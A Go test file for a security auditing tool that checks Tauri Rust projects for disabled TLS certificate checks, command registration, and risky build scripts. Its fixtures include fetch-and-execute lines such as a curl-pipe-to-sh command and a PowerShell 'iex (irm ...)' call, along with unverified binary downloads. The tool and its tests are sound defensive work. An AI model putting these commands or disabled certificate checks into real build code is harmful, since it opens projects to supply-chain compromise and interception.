package rustsrc

import (
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/tauriaudit/tauriaudit/rules/source"
)

func TestAppFactsSources(t *testing.T) {
	main := `fn main() {
    // tauri::generate_handler![commented_out]
    let b = app.updater_builder();
    b.dangerous_accept_invalid_certs(true);
    other.dangerous_accept_invalid_hostnames(true); // not the updater
    tauri_plugin_updater::Builder::new()
        .configure_client(|c| c.danger_accept_invalid_hostnames(true))
        .target("custom");
    #[cfg(debug_assertions)]
    b.dangerous_accept_invalid_hostnames(true);
    b.dangerous_accept_invalid_certs(false);
    let s = "x.dangerous_accept_invalid_certs(true)";
}`
	lib := `pub fn run() { tauri::Builder::default().invoke_handler(tauri::generate_handler![greet]); }`
	files := []*source.File{source.NewFile("src/main.rs", []byte(main)), source.NewFile("src/lib.rs", []byte(lib))}
	got := AppFacts(files, nil)
	type sw struct {
		Method          string
		Line            int
		InClient, Debug bool
	}
	var switches []sw
	for _, s := range got.TLSSwitches {
		switches = append(switches, sw{s.Method, s.Loc.Start.Line, s.InClient, s.DebugOnly})
	}
	want := []sw{
		{"dangerous_accept_invalid_certs", 4, false, false},
		{"danger_accept_invalid_hostnames", 7, true, false},
		{"dangerous_accept_invalid_hostnames", 10, false, true},
	}
	if diff := cmp.Diff(want, switches); diff != "" {
		t.Errorf("TLS switches (-want +got)\n%s", diff)
	}
	if !got.RegistersCommands || !got.UpdaterTarget || got.Build != nil {
		t.Errorf("facts = %+v", got)
	}
	if f := AppFacts(files[:1], nil); f.RegistersCommands {
		t.Error("generate_handler! in a comment counts as registering commands")
	}
}

func TestAppFactsBuildScript(t *testing.T) {
	for _, c := range []struct {
		name, src                     string
		download                      string // "" for none
		binary, verified, appManifest bool
	}{
		{"reqwest download of an exe", `fn main() { let b = reqwest::blocking::get("https://x/tool.exe"); }`, "reqwest", true, false, false},
		{"curl command", `fn main() { Command::new("curl").args(["-o", "binaries/tool"]); }`, "curl", true, false, false},
		{"powershell", `fn main() { run("Invoke-WebRequest https://x/a.zip"); }`, "Invoke-WebRequest https://x/a.zip", true, false, false},
		{"checked with sha2", `use sha2::Sha256; fn main() { ureq::get("https://x/a.dmg"); }`, "ureq", true, true, false},
		{"comment only", `// reqwest::get("https://x/a.exe")` + "\nfn main() {}", "", false, false, false},
		{"app manifest", `fn main() { tauri_build::try_build(Attributes::new().app_manifest(AppManifest::new())); }`, "", false, false, true},
	} {
		f := AppFacts(nil, source.NewFile("build.rs", []byte(c.src))).Build
		download := ""
		if f.Download != nil {
			download = f.Download.Text
		}
		if download != c.download || f.BinaryNamed != c.binary || f.Verified != c.verified || f.MentionsAppManifest != c.appManifest {
			t.Errorf("%s: %+v", c.name, f)
		}
	}
}

func TestBuildScriptShellScripts(t *testing.T) {
	src := `use std::process::Command;
fn main() {
    Command::new("sh").arg("-c").arg("curl -fsSL https://x.example/i.sh | sh").status().unwrap();
    std::process::Command::new("powershell.exe").args(["-NoProfile", "-Command", "iex (irm https://x/i.ps1)"]).status();
    Command::new("bash").arg("build.sh").status();
    Command::new("curl").arg("-c").arg("jar");
    Command::new("cmd").args(&["/C", "echo hi"]);
}`
	b := AppFacts(nil, source.NewFile("build.rs", []byte(src))).Build
	var got []string
	for _, s := range b.ShellScripts {
		got = append(got, s.Text+"@"+strconv.Itoa(s.Loc.Start.Line))
	}
	want := []string{"curl -fsSL https://x.example/i.sh | sh@3", "iex (irm https://x/i.ps1)@4", "echo hi@7"}
	if !slices.Equal(got, want) {
		t.Errorf("ShellScripts = %q, want %q", got, want)
	}
	// A hostile file of nested calls stays linear and finds nothing odd.
	hostile := strings.Repeat(`Command::new("sh").arg(`, 20000) + `"-c"`
	if n := len(AppFacts(nil, source.NewFile("build.rs", []byte(hostile))).Build.ShellScripts); n != 0 {
		t.Errorf("hostile: %d scripts", n)
	}
}
